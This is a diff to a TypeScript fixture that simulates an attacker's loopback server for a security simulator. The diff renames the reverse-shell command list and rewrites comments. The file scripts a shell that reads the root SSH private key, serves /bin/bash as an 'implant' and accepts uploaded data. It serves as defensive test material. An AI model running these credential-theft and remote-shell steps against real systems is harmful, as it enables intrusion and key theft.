@@ -3,8 +3,8 @@ import { createReadStream } from 'node:fs';
 import { type AddressInfo, createServer, type Socket } from 'node:net';
 import { LoopbackServer } from '@ringfence/simulator/demo';
 
-/** What a shell that has come home is told, line by line. */
-const ORDERS = (port: number): string => `id
+/** Commands for a reverse shell, line by line. */
+const SHELL_COMMANDS = (port: number): string => `id
 sleep 0.1
 read -r key </root/.ssh/id_ed25519
 sleep 0.1
@@ -14,7 +14,10 @@ sleep 0.1
 exit
 `;
 
-/** The attacker's machine, on loopback. Who says GET gets an implant (a copy of the shell), SHELL is told what to do, PUT is listened to. */
+/**
+ * The machine of the attacker, on loopback. It answers GET with an implant (a copy of the shell) and SHELL with
+ * commands, and reads the data of PUT.
+ */
 export class Attacker implements AsyncDisposable {
   readonly #server: LoopbackServer;
 
@@ -40,12 +43,12 @@ function answer(socket: Socket, { port }: LoopbackServer): void {
   socket.once('data', (first: Buffer) => {
     const word = first.toString('latin1').split('\n')[0];
     if (word === 'GET') createReadStream('/bin/bash').pipe(socket);
-    else if (word === 'SHELL') socket.write(ORDERS(port));
+    else if (word === 'SHELL') socket.write(SHELL_COMMANDS(port));
     else socket.resume();
   });
 }
 
-/** A port of loopback that nobody has now. */
+/** Returns a port of loopback that is free at the moment. */
 export async function freePort(): Promise<number> {
   const server = createServer().listen(0, '127.0.0.1');
   await once(server, 'listening');
